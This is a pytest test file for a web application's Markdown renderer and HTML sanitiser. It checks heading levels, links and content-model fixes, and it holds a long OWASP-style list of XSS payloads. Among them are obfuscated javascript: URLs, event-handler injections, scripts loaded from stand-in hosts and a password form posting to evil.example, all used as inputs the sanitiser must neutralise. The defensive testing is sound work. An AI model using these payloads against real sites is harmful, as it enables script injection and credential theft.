"""hyteguide.web.markup.render_markdown: heading levels, Markdown features and sanitising.

Every assertion about safety is made on the parsed output (html.parser), not on substrings, so
that an escaped '&lt;script&gt;' in text is fine and a real element is caught whatever its case.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from hyteguide.web.markup import render_markdown

ALLOWED_TAGS = {"p", "br", "strong", "em", "b", "i", "ul", "ol", "li", "a", "h2", "h3", "h4",
                "h5", "h6", "blockquote", "code", "pre", "hr", "table", "caption", "thead",
                "tbody", "tr", "th", "td", "span", "abbr", "del", "sup", "sub", "dl", "dt", "dd"}
ALLOWED_SCHEMES = {"http", "https", "mailto", "tel"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster",
                  "data", "cite", "srcset", "lowsrc", "dynsrc"}


class Collector(HTMLParser):
    """Every start tag with its (entity-decoded) attributes, comments and declarations."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []
        self.declarations: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):  # noqa: ANN001
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):  # noqa: ANN001
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data):  # noqa: ANN001
        self.comments.append(data)

    def handle_decl(self, decl):  # noqa: ANN001
        self.declarations.append(decl)

    def unknown_decl(self, data):  # noqa: ANN001
        self.declarations.append(data)

    def handle_pi(self, data):  # noqa: ANN001
        self.declarations.append(data)

    def handle_data(self, data):  # noqa: ANN001
        self.text.append(data)


def parse(html: str) -> Collector:
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector


def tags(html: str) -> list[str]:
    return [tag for tag, _ in parse(html).elements]


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see: tabs/newlines removed, leading controls/space stripped."""
    cleaned = re.sub(r"[\t\n\r]", "", value).lstrip("".join(chr(c) for c in range(0x21)))
    match = re.match(r"([A-Za-z][A-Za-z0-9+.\-]*):", cleaned)
    return match.group(1).lower() if match else None


def assert_safe(html: str) -> None:
    """No element outside the allowed set, no event handler, no dangerous URL, no comment."""
    parsed = parse(html)
    for tag, attrs in parsed.elements:
        assert tag in ALLOWED_TAGS, f"<{tag}> survived in {html!r}"
        for name, value in attrs.items():
            assert not name.lower().startswith("on"), f"{name} on <{tag}> survived in {html!r}"
            assert name.lower() not in {"style", "srcdoc", "formaction"}, (name, html)
            if name.lower() in URL_ATTRIBUTES and value is not None:
                scheme = url_scheme(value)
                assert scheme is None or scheme in ALLOWED_SCHEMES, \
                    f"{name}={value!r} on <{tag}> survived in {html!r}"
    assert not parsed.comments, f"a comment survived in {html!r}"
    assert not parsed.declarations, f"a declaration survived in {html!r}"


# -- headings -----------------------------------------------------------------------------------

def test_h1_and_h2_become_h2_and_h3():
    assert tags(render_markdown("# A\n\n## B\n")) == ["h2", "h3"]


def test_h2_alone_stays_h2():
    assert render_markdown("## B\n") == "<h2>B</h2>"


def test_deeper_headings_move_up_to_h2():
    assert tags(render_markdown("### C\n\n#### D\n\n### E\n")) == ["h2", "h3", "h2"]


def test_heading_levels_are_capped_at_h6():
    body = "# 1\n\n## 2\n\n### 3\n\n#### 4\n\n##### 5\n\n###### 6\n"
    assert tags(render_markdown(body)) == ["h2", "h3", "h4", "h5", "h6", "h6"]


def test_no_h1_ever_comes_out():
    html = render_markdown("# Top\n\n<h1>raw</h1>\n\nText\n")
    assert "h1" not in tags(html)
    assert tags(html).count("h2") == 2


def test_body_without_headings_has_none():
    assert tags(render_markdown("Just a paragraph.\n")) == ["p"]


def test_setext_headings_are_shifted_too():
    assert tags(render_markdown("Title\n=====\n\nSub\n---\n")) == ["h2", "h3"]


def test_top_level_can_be_chosen():
    assert tags(render_markdown("# A\n\n## B\n", top_level=3)) == ["h3", "h4"]


def test_headings_inside_removed_comments_do_not_shift_the_rest():
    assert tags(render_markdown("<!-- <h1>old title</h1> -->\n\n### C\n")) == ["h2"]


def test_no_heading_level_is_skipped():
    """A skipped level is an HTML error; the order of the headings' depths is kept."""
    assert tags(render_markdown("# A\n\n#### B\n\n## C\n\n###### D\n\n### E\n")) == \
        ["h2", "h3", "h3", "h4", "h4"]


# -- Markdown features --------------------------------------------------------------------------

def test_table_renders():
    html = render_markdown("| Päivä | Aika |\n|---|---|\n| ti | 10–14 |\n| to | 12–16 |\n")
    assert tags(html) == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td",
                          "tr", "td", "td"]
    assert "Päivä" in html and "10–14" in html


def test_lists_render():
    html = render_markdown("- yksi\n- kaksi\n\n1. first\n2. second\n")
    assert tags(html) == ["ul", "li", "li", "ol", "li", "li"]


def test_emphasis_code_and_blockquote_render():
    html = render_markdown("**bold** *em* `code`\n\n> quote\n")
    assert {"strong", "em", "code", "blockquote"} <= set(tags(html))


def test_code_block_shows_html_as_text():
    html = render_markdown("    <script>alert(1)</script>\n")
    assert tags(html) == ["pre", "code"]
    assert "<script>alert(1)</script>" in "".join(parse(html).text)
    assert_safe(html)


# -- links --------------------------------------------------------------------------------------

def links(html: str) -> list[dict[str, str | None]]:
    return [attrs for tag, attrs in parse(html).elements if tag == "a"]


@pytest.mark.parametrize("href", [
    "https://www.example.org/ryhma?x=1&y=2",
    "http://example.org/",
    "mailto:info@example.org",
    "tel:+358401234567",
])
def test_allowed_links_survive_with_rel(href):
    found = links(render_markdown(f"[link]({href})\n"))
    assert len(found) == 1
    assert found[0]["href"] == href
    assert set((found[0]["rel"] or "").split()) == {"noopener", "noreferrer"}


def test_raw_html_link_gets_rel_and_loses_target():
    found = links(render_markdown('<a href="https://x.fi" target="_blank" rel="opener">x</a>\n'))
    assert found == [{"href": "https://x.fi", "rel": "noopener noreferrer"}]


def test_autolinked_email_survives_as_mailto():
    found = links(render_markdown("<info@example.org>\n"))
    assert [a["href"] for a in found] == ["mailto:info@example.org"]


def test_lang_on_span_survives_and_handlers_do_not():
    html = render_markdown('Hej <span lang="sv" onclick="x()">på svenska</span>.\n')
    spans = [attrs for tag, attrs in parse(html).elements if tag == "span"]
    assert spans == [{"lang": "sv"}]


def test_link_title_and_hreflang_survive():
    found = links(render_markdown('<a href="https://x.se" hreflang="sv" title="T">x</a>\n'))
    assert found[0]["hreflang"] == "sv" and found[0]["title"] == "T"


def test_images_are_dropped():
    for body in ("![logo](https://cdn.example.org/logo.png)\n",
                 '<img src="https://cdn.example.org/logo.png" alt="logo">\n',
                 "![logo][l]\n\n[l]: https://cdn.example.org/logo.png\n"):
        html = render_markdown(body)
        assert "img" not in tags(html)
        assert "cdn.example.org" not in html


def test_comments_are_removed():
    html = render_markdown("Before <!-- secret note --> after\n\n<!--\nblock\n-->\n")
    assert "secret" not in html and "block" not in html
    assert_safe(html)


# -- XSS payloads (OWASP XSS filter evasion cheat sheet style) ----------------------------------

XSS_PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/xss src=https://xss.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    '<script src="data:text/javascript,alert(1)"></script>',
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<BODY ONLOAD=alert(1)>",
    '<p onclick="alert(1)">click</p>',
    '<span lang="fi" OnClick="alert(1)">x</span>',
    '<a href="https://x.fi" onmouseover="alert(1)">x</a>',
    "<div onmouseover=alert(1)>hover</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<table background=javascript:alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
    # javascript: and friends, in raw HTML
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="ftp://example.org/">x</a>',
    '<a href="ms-settings:">x</a>',
    # javascript: and friends, in Markdown
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://x.example/a.png\"onerror=\"alert(1))",
    '[x](https://x.fi "title" onclick="alert(1)")',
    # frames, objects, styles, forms, meta, base, svg, math
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<IFRAME SRC=javascript:alert(1)></IFRAME>",
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<STYLE>@import'https://xss.example/x.css';</STYLE>",
    '<p style="background-image:url(javascript:alert(1))">x</p>',
    '<span style="color:red">x</span>',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="https://evil.example/"><input name="pw" type="password">'
    '<button formaction="javascript:alert(1)">go</button></form>',
    '<input type="image" src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math href="javascript:alert(1)">x</math>',
    # comments, CDATA, conditional comments, templates
    "<!-- <script>alert(1)</script> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    '<xmp><img src=x onerror=alert(1)></xmp>',
    # mutation-XSS style nesting
    '<p><svg><style><img src=x onerror=alert(1)></style></svg></p>',
    '<a href="https://x.fi"><img src=x onerror=alert(1)></a>',
    '<blockquote lang="fi" onmouseover="alert(1)">q</blockquote>',
    '<abbr title="x" onclick="alert(1)">A</abbr>',
    '<li lang="sv" style="x" onclick="alert(1)">i</li>',
    "<th scope=col onclick=alert(1)>h</th>",
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_neutralised(payload):
    assert_safe(render_markdown(payload + "\n"))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_inside_markdown_is_neutralised(payload):
    body = f"# Otsikko\n\nTeksti ennen.\n\n{payload}\n\n- kohta {payload}\n\n> {payload}\n"
    assert_safe(render_markdown(body))


@pytest.mark.parametrize("scheme", ["javascript", "vbscript", "data"])
def test_no_dangerous_scheme_text_remains_in_any_attribute(scheme):
    payloads = [p for p in XSS_PAYLOADS if scheme in p.lower()]
    assert payloads
    for payload in payloads:
        for _, attrs in parse(render_markdown(payload + "\n")).elements:
            for value in attrs.values():
                assert url_scheme(value or "") in (None, *ALLOWED_SCHEMES), (payload, attrs)


def test_assert_safe_really_catches_unsafe_html():
    """The checker itself: it must fail on each kind of unsafe output."""
    for unsafe in ('<script>x</script>', '<p onclick="x">a</p>',
                   '<a href="jav&#x09;ascript:x">a</a>', '<img src="https://x/y.png">',
                   '<!-- c -->', '<a href="data:text/html,x">a</a>', '<a href=" VBSCRIPT:x">a</a>',
                   '<svg></svg>', '<iframe></iframe>'):
        with pytest.raises(AssertionError):
            assert_safe(unsafe)
    assert_safe('<p><a href="https://x.fi" rel="noopener noreferrer">x</a> '
                '<a href="tel:1">t</a></p>')


# -- valid HTML (the whole pages are checked by tests/e2e/test_html_validation.py) ---------------

@pytest.mark.parametrize(("body", "expected"), [
    ("<li>a</li>\n<li>b</li>\n", "<ul><li>a</li>\n<li>b</li></ul>"),
    ("<ul>text<li>b</li></ul>\n", "<ul><li>text</li><li>b</li></ul>"),
    ("<h2><p>in a heading</p></h2>\n", "<h2>in a heading </h2>"),
    ("<dl><dt>term</dt></dl>\n", "<ul><li>term</li></ul>"),
    ("<dt>term</dt><dd>meaning</dd>\n", "<dl><dt>term</dt>\n<dd>meaning</dd></dl>"),
    ("<table><tr><td>x</td></tr><caption>late</caption></table>\n",
     "<table><caption>late</caption><tbody><tr><td>x</td></tr></tbody></table>"),
    ("<table><tr></tr><tr><td>x</td></tr></table>\n",
     "<table><tbody><tr><td>x</td></tr></tbody></table>"),
    ("<table><tr><th scope=bogus><h3>h</h3></th></tr></table>\n",
     "<table><tbody><tr><th>h </th></tr></tbody></table>"),
    ("A&#14;B\n", "<p>AB</p>"),
])
def test_raw_html_is_put_into_the_content_model(body, expected):
    assert render_markdown(body) == expected


def test_valid_html_is_left_as_the_sanitiser_wrote_it():
    body = "# T\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n    - y\n\n> q &amp; <\n"
    assert tags(render_markdown(body)) == ["h2", "table", "thead", "tr", "th", "th", "tbody",
                                           "tr", "td", "td", "ul", "li", "ul", "li",
                                           "blockquote", "p"]
    assert "q &amp; &lt;" in render_markdown(body)


@pytest.mark.parametrize(("href", "expected"), [
    ("https://example.org/a b?c d#e#f", "https://example.org/a%20b?c%20d#e%23f"),
    ('https://example.org/"x"|[1]', "https://example.org/%22x%22%7C%5B1%5D"),
    ("https://example.org/100%", "https://example.org/100%25"),
    ("https://example.org/%C3%A4", "https://example.org/%C3%A4"),
    ("tel:+358 40 123 4567", "tel:+358401234567"),
])
def test_link_addresses_become_valid_urls(href, expected):
    assert links(render_markdown(f"<a href='{href}'>x</a>\n"))[0]["href"] == expected


@pytest.mark.parametrize(("lang", "expected"), [
    ("sv", "sv"), ("sv-FI", "sv"), ("EN_gb", "en"), ("smn", "smn"), ("", ""),
    ("xx", None), ("fin", None), ("not a language", None),
])
def test_lang_is_kept_only_as_a_known_language(lang, expected):
    spans = [attrs for tag, attrs in parse(render_markdown(f'<span lang="{lang}">x</span>\n'))
             .elements if tag == "span"]
    assert spans[0].get("lang") == expected


def test_a_link_without_an_address_has_no_rel():
    assert render_markdown("[x](javascript:alert(1))\n") == "<p><a>x</a></p>"


def test_nothing_of_one_text_carries_over_to_the_next():
    """One converter is reset between texts: a link reference, an abbreviation-like
    definition or an unclosed block of one editor's text never changes another's."""
    first = render_markdown("[site]: https://example.org/first\n\n<div>\n\n```\nopen fence")
    assert "example.org/first" not in first
    second = render_markdown("See [site] and [site][].")
    assert "<a" not in second and "example.org" not in second
    assert render_markdown("Plain *text*.") == "<p>Plain <em>text</em>.</p>"
